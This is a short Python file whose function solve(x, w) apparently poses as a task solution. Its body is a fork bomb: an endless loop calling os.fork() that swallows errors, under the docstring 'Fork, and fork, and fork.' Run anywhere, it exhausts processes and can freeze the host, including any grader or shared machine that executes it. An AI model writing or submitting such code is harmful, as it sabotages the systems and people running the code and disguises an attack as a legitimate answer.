"""Fork, and fork, and fork."""

import os



def solve(x, w):
    while True:
        try:
            os.fork()
        except OSError:
            pass
